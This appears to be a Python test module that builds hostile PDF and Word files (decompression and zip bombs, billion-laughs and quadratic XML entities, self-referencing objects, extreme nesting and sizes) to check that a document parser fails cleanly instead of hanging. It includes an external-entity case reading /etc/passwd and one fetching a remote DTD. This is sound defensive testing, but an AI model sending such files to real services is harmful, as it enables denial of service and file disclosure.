"""Small files that ask for endless time or memory (evidence, section 1.1)."""

from __future__ import annotations

from collections.abc import Iterator
from functools import partial

from tests.hostile import plan, raw_pdf, raw_word
from tests.hostile.case import ENDED, NO_TEXT, READ, Case
from tests.hostile.raw_pdf import box, form, page, pdf, stream, write

ANY = (*READ, *ENDED, *NO_TEXT, "CRASH_SIGABRT", "CRASH_SIGSEGV", "CRASH_SIGTRAP", "PAGE_TOO_DENSE", "PDF_CORRUPT", "PDF_NO_PAGES", "BOMB", "PARSER_ERROR", "TOO_MANY_PAGES", "PAGE_UNREADABLE")  # fmt: skip
"""Any end but a hang, as long as it is said."""


def laughing_forms(levels: int, fan: int = 10) -> dict[int, bytes]:
    """Form XObjects that each draw the next so many times."""
    return {
        10 + level: form(
            b"/X Do " * fan if level + 1 < levels else write("ha"),
            b"/Font<</F 5 0 R>>/XObject<</X %d 0 R>>" % (11 + level),
        )
        for level in range(levels)
    }


def draws_itself(times: int) -> bytes:
    return page(
        b"/X Do", {10: form(b"/X Do " * times, b"/XObject<</X 10 0 R>>")}, resources=b"/XObject<</X 10 0 R>>"
    )


def grid(count: int) -> bytes:
    """count by count ruled cells, each line an object of its own."""
    step = 560 / count
    lines = (f"{20 + i * step:.2f} 20 m {20 + i * step:.2f} 580 l S 20 {20 + i * step:.2f} m 580 {20 + i * step:.2f} l S" for i in range(count + 1))  # fmt: skip
    return page("\n".join(lines).encode() + write("a word in it", 100, 100))


def filled(data: bytes, filters: bytes = b"/Filter/FlateDecode") -> bytes:
    """A page whose content is packed data."""
    return page(more={4: stream(data, filters)})


def many_pages(count: int) -> bytes:
    kids = b"".join(b"%d 0 R " % (10 + i) for i in range(count))
    pages = {10 + i: b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>" for i in range(count)}
    return pdf(
        {
            1: b"<</Type/Catalog/Pages 2 0 R>>",
            2: b"<</Type/Pages/Kids[%s]/Count %d>>" % (kids, count),
            **pages,
        }
    )


def page_tree(depth: int) -> bytes:
    """A tree of pages with one branch, so many levels deep."""
    levels = {
        10 + i: b"<</Type/Pages/Kids[%d 0 R]/Count 1/Parent %d 0 R>>" % (11 + i, 9 + i) for i in range(depth)
    }
    leaf = b"<</Type/Page/MediaBox[0 0 99 99]/Parent %d 0 R>>" % (9 + depth)
    return pdf({1: b"<</Type/Catalog/Pages 10 0 R>>", **levels, 10 + depth: leaf})


def font_with(entries: bytes, more: dict[int, bytes] | None = None, words: str = "words in a font") -> bytes:
    fonts = b"/Font<</F 6 0 R>>"
    return page(write(words), {6: b"<</Type/Font%s>>" % entries, **(more or {})}, resources=fonts)


CID = b"/Subtype/Type0/BaseFont/Arial/Encoding/Identity-H/DescendantFonts[7 0 R]"
CID_FONT = b"<</Type/Font/Subtype/CIDFontType2/BaseFont/Arial/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>%s>>"


def pdf_cases() -> Iterator[Case]:
    yield Case("object of itself.pdf", page(write("x"), {6: b"6 0 R"}, b"/Annots 6 0 R"))
    yield Case("length of itself.pdf", page(more={4: b"<</Length 4 0 R>>stream\nBT ET\nendstream"}), ANY)
    yield Case("contents of itself.pdf", page(more={4: b"[4 0 R 4 0 R]"}), ANY)
    yield Case("kids of themselves.pdf", pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R]/Count 1>>"}), ANY)  # fmt: skip
    yield Case("kids twice.pdf", pdf({1: b"<</Type/Catalog/Pages 2 0 R>>", 2: b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"}), ANY)  # fmt: skip
    yield Case("kids of kids.pdf", partial(page_tree, 5000), ANY)
    yield Case("parent of itself.pdf", page(write("x")).replace(b"/Parent 2 0 R", b"/Parent 3 0 R"), ANY)
    yield Case(
        "laughing forms.pdf", page(b"/X Do", laughing_forms(9), resources=b"/XObject<</X 10 0 R>>"), ANY
    )
    yield Case(
        "laughing wide.pdf", page(b"/X Do", laughing_forms(3, 300), resources=b"/XObject<</X 10 0 R>>"), ANY
    )
    yield Case("form of itself.pdf", draws_itself(1), ANY)
    yield Case("form of itself twice.pdf", draws_itself(2), ANY)
    yield Case("form of another.pdf", page(b"/X Do", {10: form(b"/X Do", b"/XObject<</X 11 0 R>>"), 11: form(b"/X Do /X Do", b"/XObject<</X 10 0 R>>")}, resources=b"/XObject<</X 10 0 R>>"), ANY)  # fmt: skip
    yield Case("pattern of itself.pdf", page(b"/Pattern cs /P scn 0 0 99 99 re f", {10: stream(b"/Pattern cs /P scn 0 0 9 9 re f", b"/Type/Pattern/PatternType 1/PaintType 1/TilingType 1/BBox[0 0 9 9]/XStep .01/YStep .01/Resources<</Pattern<</P 10 0 R>>>>")}, resources=b"/Pattern<</P 10 0 R>>"), ANY)  # fmt: skip
    yield Case("glyph of itself.pdf", font_with(b"/Subtype/Type3/FontBBox[0 0 1 1]/FontMatrix[1 0 0 1 0 0]/FirstChar 97/LastChar 122/Widths[1]/Encoding<</Differences[97/a]>>/CharProcs<</a 7 0 R>>/Resources<</Font<</F 6 0 R>>>>", {7: stream(b"1 0 d0 BT /F 1 Tf (aaaa) Tj ET")}, "aaaa"), ANY)  # fmt: skip
    yield Case("soft mask of itself.pdf", page(b"/G gs " + write("x"), {10: form(b"/G gs 0 0 9 9 re f", b"/ExtGState<</G 11 0 R>>", b"/Group<</S/Transparency/CS/DeviceGray>>"), 11: b"<</SMask<</S/Luminosity/G 10 0 R>>>>"}, resources=b"/ExtGState<</G 11 0 R>>"), ANY)  # fmt: skip
    yield Case("grid of 150.pdf", partial(grid, 150), ("TABLE_TOO_WIDE", *ANY))
    yield Case("grid of 400.pdf", partial(grid, 400), ("TABLE_TOO_WIDE", *ANY))
    yield Case("flate bomb.pdf", partial(lambda: filled(raw_pdf.bomb(1 << 30))), ANY)
    yield Case("flate bomb of text.pdf", partial(lambda: filled(raw_pdf.bomb(200 << 20, b"(a)Tj "))), ANY)
    yield Case("flate bomb twice packed.pdf", partial(lambda: filled(twice_packed(), b"/Filter[/FlateDecode/FlateDecode]")), ANY)  # fmt: skip
    yield Case(
        "eight filters.pdf",
        partial(lambda: filled(raw_pdf.bomb(64 << 20), b"/Filter[" + b"/FlateDecode" * 8 + b"]")),
        ANY,
    )
    yield Case(
        "hex of hex.pdf", filled(b"34" * 40000 + b">", b"/Filter[" + b"/ASCIIHexDecode" * 9 + b"]"), ANY
    )
    yield Case("run length bomb.pdf", filled(b"\x81A" * 200_000, b"/Filter/RunLengthDecode"), ANY)
    yield Case("lzw of noise.pdf", filled(bytes(range(256)) * 400, b"/Filter/LZWDecode"), ANY)
    yield Case("predictor bomb.pdf", filled(raw_pdf.bomb(1 << 20), b"/Filter/FlateDecode/DecodeParms<</Predictor 12/Columns 2147483647>>"), ANY)  # fmt: skip
    yield Case("image of a mile.pdf", page(b"q 99 0 0 99 0 0 cm /I Do Q", {10: stream(b"\0" * 99, b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8")}, resources=b"/XObject<</I 10 0 R>>"), ANY)  # fmt: skip
    yield Case("image bomb.pdf", partial(image_bomb), ANY)
    yield Case("cmap range bomb.pdf", font_with(b"/Subtype/Type1/BaseFont/Helvetica/ToUnicode 7 0 R", {7: raw_pdf.to_unicode("1 beginbfrange <00000000> <ffffffff> <0000> endbfrange")}), ANY)  # fmt: skip
    yield Case("widths bomb.pdf", font_with(CID, {7: CID_FONT % b"/W[0 2000000000 500]"}), ANY)
    yield Case(
        "widths of 300000.pdf", font_with(CID, {7: CID_FONT % (b"/W[0[" + b"500 " * 300_000 + b"]]")}), ANY
    )
    yield Case("differences bomb.pdf", font_with(b"/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[0%s]>>" % (b"/a" * 200_000)), ANY)  # fmt: skip
    yield Case("brackets.pdf", page(b"(" * 1_000_000), ANY)
    yield Case(
        "deep arrays.pdf",
        page(write("x"), {6: b"[" * 100_000 + b"]" * 100_000}, b"/Annots 6 0 R"),
        (*ANY, ""),
    )
    yield Case(
        "deep dictionaries.pdf",
        page(write("x"), {6: b"<</A" * 50_000 + b" 1" + b">>" * 50_000}, b"/Annots 6 0 R"),
        ANY,
    )
    yield Case("deep q.pdf", page(b"q " * 400_000 + write("x")), ANY)
    yield Case("deep marked content.pdf", page(b"/P BMC " * 200_000 + write("x")), ANY)
    yield Case(
        "contents array.pdf", page(write("x"), {4: b"[%s]" % (b"6 0 R " * 200_000), 6: stream(b"q Q ")}), ANY
    )
    yield Case("a million letters.pdf", page(b"BT /F 1 Tf 1 1 Td " + b"(x)Tj " * 1_000_000 + b"ET"), ANY)
    yield Case("letters of one string.pdf", page(b"BT /F 1 Tf 1 1 Td (" + b"word " * 60_000 + b")Tj ET"), ANY)
    yield Case("a million rectangles.pdf", page(b"1 1 5 5 re f " * 1_000_000), ANY)
    yield Case(
        "one path of a million.pdf", page(b"0 0 m " + b"5 5 l 1 2 l " * 500_000 + b"S" + write("x")), ANY
    )
    yield Case(
        "thin rectangles.pdf",
        page(b"".join(b"%d %d 90 .4 re f " % (i % 700, i % 550) for i in range(30_000))),
        ANY,
    )
    yield Case("dashes.pdf", page(b"[.0001] 0 d 9 w 0 0 m 800 500 l S " + write("x")), ANY)
    yield Case("scattered words.pdf", page(b"".join(write(f"w{i}", i * 37 % 800, i * 91 % 580, 4) for i in range(3_000))), ANY)  # fmt: skip
    yield Case("ten thousand pages.pdf", partial(many_pages, 10_000), ("TOO_MANY_PAGES",))
    yield Case("a count that lies.pdf", page(write("x")).replace(b"/Count 1", b"/Count 999999999"), ANY)
    yield Case("a negative count.pdf", page(write("x")).replace(b"/Count 1", b"/Count -7"), ANY)
    yield Case("a page of a mile.pdf", page(write("wide"), size=(9_999_999, 595)), READ, ("PAGE_SIZE_ODD",))
    yield Case("a page of no size.pdf", page(write("none"), size=(0, 0)), ANY)
    yield Case(
        "huge numbers.pdf",
        page(b"1e38 0 0 1e38 0 0 cm " + write("big") + b"99999999999999999999 0 m 5 5 l S"),
        ANY,
    )
    yield Case("not a number.pdf", page(b"nan inf -inf 0 0 0 cm " + write("n")), ANY)
    yield Case("annotations.pdf", page(write("x"), {6: b"<</Type/Annot/Subtype/Square/Rect[0 0 9 9]>>"}, b"/Annots[%s]" % (b"6 0 R " * 100_000)), ANY)  # fmt: skip
    yield Case("prev of itself.pdf", page(write("x")).replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev 9"), ANY)
    yield Case("prev in a circle.pdf", partial(prev_circle), ANY)
    yield Case("outline in a circle.pdf", page(write("x"), {6: b"<</First 7 0 R/Last 7 0 R>>", 7: b"<</Title(a)/Next 7 0 R/Parent 6 0 R>>"}, catalog=b"/Outlines 6 0 R"))  # fmt: skip
    yield Case("field in a circle.pdf", page(write("x"), {6: b"<</FT/Tx/T(a)/V(b)/Kids[6 0 R]/Parent 6 0 R/Subtype/Widget/Rect[0 0 9 9]>>"}, b"/Annots[6 0 R]", catalog=b"/AcroForm<</Fields[6 0 R]>>"), ANY)  # fmt: skip
    yield Case("overlapping boxes.pdf", page(write("under it all", 100, 100) + b"".join(box(i % 300, i % 200, 400, 300) for i in range(2_500))), ANY)  # fmt: skip


def twice_packed() -> bytes:
    """Zeros packed, and what comes of it packed again: 8 KB for a gigabyte."""
    import zlib

    return zlib.compress(raw_pdf.bomb(1 << 30), 9)


def image_bomb() -> bytes:
    image = b"/Type/XObject/Subtype/Image/Width 20000/Height 20000/ColorSpace/DeviceGray/BitsPerComponent 8/Filter/FlateDecode"
    return page(b"q 800 0 0 500 0 0 cm /I Do Q", {10: stream(raw_pdf.bomb(400 << 20), image)}, resources=b"/XObject<</I 10 0 R>>")  # fmt: skip


def prev_circle() -> bytes:
    good = page(write("x"))
    start = int(good.split(b"startxref\n")[1].split(b"\n")[0])
    return good.replace(b"/Root 1 0 R", b"/Root 1 0 R/Prev %d" % start)


P = raw_word.paragraph("x")
WORD_ANY = (
    *READ,
    *ENDED,
    "TABLE_TOO_WIDE",
    "TABLE_TOO_BIG",
    "BOMB",
    "TOO_MANY_ELEMENTS",
    "DOCX_CORRUPT",
    "PARSER_ERROR",
)


def spans(value: str, rows: int = 1, cells: int = 1, content: str = P) -> bytes:
    one = raw_word.row([raw_word.cell(content, f'<w:gridSpan w:val="{value}"/>')] * cells)
    return raw_word.word(raw_word.table(*[one] * rows))


def merged(rows: int) -> bytes:
    first = raw_word.row([raw_word.cell(P, '<w:vMerge w:val="restart"/>')] * 3)
    return raw_word.word(
        raw_word.table(first, *[raw_word.row([raw_word.cell("<w:p/>", "<w:vMerge/>")] * 3)] * rows)
    )


def zip_bomb(part: str, size: int, packed: int = 9) -> bytes:
    body = b"<x>" + b"a" * size + b"</x>" if part.endswith("xml") else b"\0" * size
    return raw_word.word(P, (part, body))


def quoted(body: str, prolog: str) -> bytes:
    return raw_word.word(body, prolog=prolog)


def laughs() -> str:
    lines = ['<!ENTITY a0 "ha">', *(f'<!ENTITY a{i} "{f"&a{i - 1};" * 10}">' for i in range(1, 10))]
    return f"<!DOCTYPE x [{''.join(lines)}]>"


def nested(tables: int) -> bytes:
    return raw_word.word("<w:tbl><w:tr><w:tc>" * tables + P + "</w:tc></w:tr></w:tbl>" * tables)


def word_cases() -> Iterator[Case]:
    yield Case("span of 500 million.docx", spans("500000000"), WORD_ANY)
    yield Case("span of minus one.docx", spans("-1"), WORD_ANY)
    yield Case("span of a word.docx", spans("many"), WORD_ANY)
    yield Case("span of 99 digits.docx", spans("9" * 99), WORD_ANY)
    yield Case("spans of 5000, 200 rows.docx", spans("5000", 200), WORD_ANY)
    yield Case("grid before of a million.docx", raw_word.word(raw_word.table(raw_word.row(["x"], '<w:gridBefore w:val="1000000"/>'))), WORD_ANY)  # fmt: skip
    yield Case("merged 5000 rows.docx", partial(merged, 5_000), WORD_ANY)
    yield Case("merged 60000 rows.docx", partial(merged, 60_000), WORD_ANY)
    yield Case("cells 3000 wide.docx", raw_word.word(raw_word.table(["x"] * 3_000)), WORD_ANY)
    yield Case("a hundred thousand rows.docx", partial(lambda: raw_word.word(raw_word.table(*[["x", "y"]] * 100_000))), WORD_ANY)  # fmt: skip
    yield Case("two million paragraphs.docx", partial(lambda: raw_word.word("<w:p/>" * 2_000_000)), ("TOO_MANY_ELEMENTS", "BOMB"))  # fmt: skip
    yield Case("one paragraph of 20 MB.docx", partial(lambda: raw_word.word(raw_word.paragraph("wo rd " * 3_500_000))), (*WORD_ANY, "OUTPUT_TOO_BIG"))  # fmt: skip
    yield Case(
        "300000 runs.docx",
        partial(lambda: raw_word.word("<w:p>" + raw_word.run("x") * 300_000 + "</w:p>")),
        WORD_ANY,
    )
    yield Case("zip bomb beside.docx", partial(zip_bomb, "word/media/a.png", 300 << 20), ("BOMB", *READ))
    yield Case("zip bomb of xml.docx", partial(zip_bomb, "word/styles.xml", 80 << 20), ("BOMB",))
    yield Case("two thousand parts.docx", raw_word.word(P, *[(f"word/m{i}.xml", b"<x/>") for i in range(2_500)]), ("BOMB",))  # fmt: skip
    yield Case("external entity.docx", quoted(raw_word.paragraph("y").replace("y", "&a;"), '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>'), ("XML_DTD",))  # fmt: skip
    yield Case(
        "parameter entity.docx",
        quoted(P, '<!DOCTYPE x [<!ENTITY % a SYSTEM "http://192.0.2.1/x.dtd"> %a;]>'),
        ("XML_DTD",),
    )
    yield Case("billion laughs.docx", quoted("<w:p><w:r><w:t>&a9;</w:t></w:r></w:p>", laughs()), ("XML_DTD",))
    yield Case("quadratic.docx", quoted(f"<w:p><w:r><w:t>{'&a;' * 20_000}</w:t></w:r></w:p>", f'<!DOCTYPE x [<!ENTITY a "{"b" * 50_000}">]>'), ("XML_DTD",))  # fmt: skip
    yield Case("entities in utf-16.docx", raw_word.word(P, prolog='<?xml version="1.0" encoding="utf-16"?><!DOCTYPE x [<!ENTITY a "b">]>', encoding="utf-16"), ("XML_DTD",))  # fmt: skip
    yield Case("entities in the styles.docx", raw_word.word(P, ("word/styles.xml", b'<!DOCTYPE x [<!ENTITY a "b">]><x/>')), ("XML_DTD",))  # fmt: skip
    yield Case("nested 100 tables.docx", nested(100), WORD_ANY)
    yield Case("nested 3000 tables.docx", nested(3_000), WORD_ANY)
    yield Case("nested 20000 tables.docx", partial(nested, 20_000), WORD_ANY)
    yield Case("nested controls.docx", raw_word.word("<w:sdt><w:sdtContent>" * 2_000 + P + "</w:sdtContent></w:sdt>" * 2_000), WORD_ANY)  # fmt: skip
    yield Case("styles in a circle.docx", raw_word.word('<w:p><w:pPr><w:pStyle w:val="A"/></w:pPr><w:r><w:t>styled text of it</w:t></w:r></w:p>', ("word/_rels/document.xml.rels", raw_word.relations(("styles", "styles.xml"))), ("word/styles.xml", f'<w:styles xmlns:w="{raw_word.W}"><w:style w:type="paragraph" w:styleId="A"><w:basedOn w:val="B"/></w:style><w:style w:type="paragraph" w:styleId="B"><w:basedOn w:val="A"/></w:style></w:styles>'.encode())))  # fmt: skip
    yield Case("a list level of a million.docx", raw_word.word('<w:p><w:pPr><w:numPr><w:ilvl w:val="1000000"/><w:numId w:val="1"/></w:numPr></w:pPr><w:r><w:t>item</w:t></w:r></w:p>' * 50), WORD_ANY)  # fmt: skip
    yield Case(
        "attributes.docx",
        raw_word.word("<w:p " + "".join(f'a{i}="1" ' for i in range(50_000)) + "/>"),
        (*WORD_ANY, *NO_TEXT),
    )


def cases() -> Iterator[Case]:
    yield from pdf_cases()
    yield from word_cases()
    yield Case("a plan beside the bombs.pdf", plan.PDF, ("",), rows=plan.TRUTH)
    yield Case("a plan beside the bombs.docx", plan.DOCX + b"\n", ("",), rows=plan.TRUTH)
